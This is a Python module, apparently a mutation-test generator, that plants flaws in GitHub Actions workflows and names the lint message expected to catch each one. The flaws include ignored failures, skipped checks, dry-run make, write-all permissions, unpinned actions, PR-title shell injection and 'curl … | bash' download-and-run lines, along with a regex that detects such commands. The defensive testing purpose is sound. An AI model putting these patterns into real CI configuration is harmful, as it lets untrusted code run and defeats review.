"""What runs on GitHub."""

import re

from ..draft import Draft, Place
from .catalogue import refused_by

FOLDER = ".github/workflows"


def line_of(draft: Draft, pattern: str) -> tuple[str, int]:
    """Draw a line of a workflow that matches a pattern; return its file and number."""
    return draft.pick(
        (f"{FOLDER}/{path.name}", number)
        for path in sorted((draft.root / FOLDER).iterdir())
        for number, text in enumerate(draft.lines(f"{FOLDER}/{path.name}"), 1)
        if re.search(pattern, text)
    )


@refused_by("lint", r"\|\| true|fail|ignored|make (lint|book|test)")
def failure_ignored(draft: Draft) -> Place:
    """A step of the workflow cannot fail."""
    file, line = line_of(draft, r"run: make (lint|book|test)")
    return draft.change(
        file, line, lambda text: text + draft.pick([" || true", " ; true", " || echo failed"])
    )


@refused_by("lint", "continue-on-error")
def failure_allowed(draft: Draft) -> Place:
    """A step or a job is allowed to fail."""
    file, line = line_of(draft, r"run: make (lint|book|test)|runs-on:")
    indent = "        " if "run:" in draft.lines(file)[line - 1] else "    "
    return draft.insert(file, line + 1, f"{indent}continue-on-error: true")


@refused_by("lint", "make (lint|test|book)")
def step_deleted(draft: Draft) -> Place:
    """The workflow no longer lints, or no longer tests."""
    file, line = line_of(draft, r"- run: make (lint|test)$")
    rest = draft.lines(file)[line:]
    size = next((n for n, text in enumerate(rest, 1) if not text.startswith("        ")), 1)
    draft.cut(file, line, line + size - 1)
    return Place(file)


@refused_by("lint", "no pull request runs make")
def job_under_a_condition(draft: Draft) -> Place:
    """A job that checks is skipped for pull requests."""
    file = f"{FOLDER}/book.yml"
    job = draft.pick(["  lint:", "  book:"])
    line = draft.lines(file).index(job) + 1
    condition = draft.pick(["github.event_name == 'push'", "github.ref == 'refs/heads/main'"])
    draft.insert(file, line + 1, f"    if: {condition}")
    return Place(file)


@refused_by("lint", "checks (run|are skipped)")
def checks_diverted(draft: Draft) -> Place:
    """A check passes without running, since make or the shell does nothing, or is skipped."""
    file, line = line_of(draft, r"^      - run: make (lint|book|test)$")
    lines = draft.lines(file)
    name = max(n for n, text in enumerate(lines[:line], 1) if re.match(r"  [\w-]+:$", text))
    step = ["shell: bash -c true {0}", "working-directory: tests/small-book"]
    if "env:" not in lines[line]:
        step.append("env: {MAKEFLAGS: n}")
    job = ["container: example.org/make", "defaults: {run: {shell: bash}}", "needs: none"]
    if "pull_request" in "".join(lines):
        job.append("strategy: {matrix: {part: []}}")
    indent, line, added = draft.pick(
        [("        ", line + 1, text) for text in step]
        + [("    ", name + 1, text) for text in job]
    )
    return draft.insert(file, line, indent + added)


@refused_by("lint", "files of the change")
def checks_of_other_files(draft: Draft) -> Place:
    """A check looks at another branch, repository or folder than those of the change."""
    file, check = line_of(draft, r"^      - run: make (lint|book|test)$")
    before = enumerate(draft.lines(file)[:check], 1)
    line = max(n for n, text in before if "persist-credentials:" in text)
    key = draft.pick(["ref: main", "repository: somebody/course", "path: course"])
    return draft.insert(file, line + 1, f"          {key}")


@refused_by("lint", "command that may change")
def checks_of_another_makefile(draft: Draft) -> Place:
    """A command before a check leaves it nothing to do."""
    file, line = line_of(draft, r"^      - run: make (lint|book|test)$")
    commands = [
        "printf 'lint book test:\\n' > Makefile",
        "sed --in-place 's/^\\t.*/\\ttrue/' Makefile",
        "cp tests/small-book/index.md Makefile",
        'echo MAKEFLAGS=n >> "$GITHUB_ENV"',
    ]
    return draft.insert(file, line, f"      - run: {draft.pick(commands)}")


@refused_by("lint", "variable MAKEFLAGS")
def checks_as_a_dry_run(draft: Draft) -> Place:
    """Every make of a workflow only prints what it would do."""
    file, line = line_of(draft, "^jobs:")
    added = draft.insert(file, line, "env:\n  MAKEFLAGS: n\n")
    return Place(file, added.first + 1)


@refused_by("lint", "hides a failure|runs what it downloads")
def careless_start(draft: Draft) -> Place:
    """What Binder runs as a session starts hides a failure, or runs a download."""
    command = draft.pick(["cp a b || true", "curl -sSL https://example.org/i.sh | sh"])
    return draft.insert(".binder/start", 2, command)


@refused_by("lint", "pull requests are left out")
def pull_requests_left_out(draft: Draft) -> Place:
    """Only changes of some files, or for some branches, are checked."""
    file = f"{FOLDER}/book.yml"
    line = draft.lines(file).index("  pull_request:") + 1
    rest = draft.pick(["paths: [book/**]", "paths-ignore: ['**.md']", "branches: [release]"])
    draft.insert(file, line + 1, f"    {rest}")
    return Place(file, line)


@refused_by("lint", r"curl|wget|bash|\bsh\b|shell|download")
def script_piped_into_a_shell(draft: Draft) -> Place:
    """A step runs what another host sends."""
    file, line = line_of(draft, r"run: make (lint|book|test)")
    command = draft.pick(
        ["curl -sSL https://example.org/i.sh | bash", "wget -qO- https://a.b | sh"]
    )
    return draft.insert(file, line, f"      - run: {command}")


@refused_by("lint", "permission|write")
def permission_to_write(draft: Draft) -> Place:
    """A job may write to the repository."""
    file, line = line_of(draft, "contents: read")
    return draft.change(
        file, line, lambda text: text.replace("contents: read", "contents: write")
    )


@refused_by("lint", "permission|write-all")
def every_permission(draft: Draft) -> Place:
    """Every job may do everything."""
    file, line = line_of(draft, r"^permissions: \{\}")
    return draft.replace(file, line, line, "permissions: write-all")


@refused_by("lint", "hash|pin|commit|sha")
def action_that_is_not_pinned(draft: Draft) -> Place:
    """An action is named by a tag, which can be moved."""
    file, line = line_of(draft, r"uses: \S+@[0-9a-f]{40}")
    return draft.change(file, line, lambda text: re.sub(r"@[0-9a-f]{40}.*", "@v7", text))


@refused_by("lint", "hash|pin|commit|sha|injection|template|permission")
def careless_workflow_of_another_ending(draft: Draft) -> Place:
    """A workflow that the checks would refuse is named `.yaml`."""
    text = (
        "name: Greet\non: pull_request_target\npermissions: write-all\njobs:\n  greet:\n"
        "    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
        "      - run: echo ${{ github.event.pull_request.title }}\n"
    )
    return draft.write(f"{FOLDER}/greet.yaml", text)


@refused_by("lint", "schema|valid|unexpected|stpes|rusn-on|property|required")
def invalid_workflow(draft: Draft) -> Place:
    """A key of a workflow is misspelt."""
    file, line = line_of(draft, "^    (steps|runs-on):")
    draft.change(
        file, line, lambda text: text.replace("steps", "stpes").replace("runs", "rusn")
    )
    return Place(file)


@refused_by("lint", "expression|injection|template|title")
def title_in_a_shell_command(draft: Draft) -> Place:
    """A step hands the title of a pull request to the shell."""
    file, line = line_of(draft, r"run: make (lint|book|test)")
    text = "      - run: echo ${{ github.event.pull_request.title }}"
    return draft.insert(file, line, text)
